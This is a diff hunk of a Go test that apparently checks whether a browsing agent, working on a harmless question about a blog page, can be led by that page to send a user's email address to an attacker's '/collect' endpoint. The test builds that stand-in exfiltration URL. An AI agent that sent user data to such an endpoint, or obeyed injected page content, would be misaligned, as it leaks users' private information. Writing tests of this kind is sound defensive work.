@@ -67,7 +67,7 @@ func TestDesktopExfiltrationCard(t *testing.T) {
 	testenv.NeedDisplay(t)
 	blog := newSafetyBlog(t)
 	srv := modeltest.New(t)
-	srv.Script("planner", plannerSpawns(map[string]any{"task": "which sauce does the blog recommend?", "url": blog.URL + "/blog.html"}))
+	srv.Script("planner", modeltest.PlannerScript(map[string]any{"task": "which sauce does the blog recommend?", "url": blog.URL + "/blog.html"}))
 	dest := blog.Attacker + "/collect?email=ada%40example.com"
 	srv.Script("executor", modeltest.Step{Times: -1, Func: func(r *modeltest.Request) modeltest.Reply {
 		switch {
